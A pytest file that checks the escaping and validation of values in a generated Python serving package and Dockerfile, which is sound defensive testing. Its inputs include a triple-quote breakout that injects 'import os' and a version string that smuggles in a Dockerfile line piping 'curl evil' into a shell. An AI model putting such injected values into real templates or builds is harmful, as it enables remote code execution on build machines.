"""The one escaping path of values into the generated serving package (``mlops_nb.serving.literal``)."""

from __future__ import annotations

import ast

import pytest

from mlops_nb.serving.literal import identifier, one_line, python_literal
from mlops_nb.serving.render import _environment, _python_minor

NASTY = ['x"""\nimport os\n"""', "a\u2028b\x85c", "\x00\x1b[31m", "\ud800", "back\\slash'", "😀 größe", "\t\r"]


@pytest.mark.parametrize("text", NASTY)
def test_a_string_literal_reads_back_as_the_same_string_on_one_printable_line(text: str) -> None:
    source = python_literal(text)
    assert source.isprintable() and source.startswith('"')
    assert ast.literal_eval(source) == text


def test_containers_are_written_one_item_per_line_and_read_back() -> None:
    value = {"name": NASTY[0], "types": ["a", "b"], "none": None, "n": 3, "f": 0.5, "empty": [], "ok": True}
    source = python_literal(value)
    assert ast.literal_eval(source) == value
    assert source.splitlines()[1] == '    "name": "x\\"\\"\\"\\nimport os\\n\\"\\"\\"",'
    with pytest.raises(TypeError):
        python_literal(object())


def test_python_templates_take_values_only_through_the_escaping_filters() -> None:
    python = _environment(python=True)
    assert python.from_string("x = {{ v | py }}").render(v=NASTY[0]) == f"x = {python_literal(NASTY[0])}"
    with pytest.raises(ValueError, match=r"\|py"):
        python.from_string('"""{{ v }}"""').render(v=NASTY[0])
    with pytest.raises(ValueError):
        python.from_string("{{ v | ident }} = 1").render(v="import os")
    assert identifier("sepal_length") == "sepal_length"
    text = _environment(python=False)
    assert text.from_string("# {{ v }}").render(v=NASTY[0]).count("\n") == 0
    assert one_line("a\nb\u2028c") == "a b c"


def test_the_dockerfile_python_version_is_a_version_or_the_default() -> None:
    assert _python_minor("3.12.4") == "3.12" and _python_minor("3.10") == "3.10"
    assert _python_minor("3.12\nRUN curl evil | sh") == "3.11" and _python_minor(None) == "3.11"
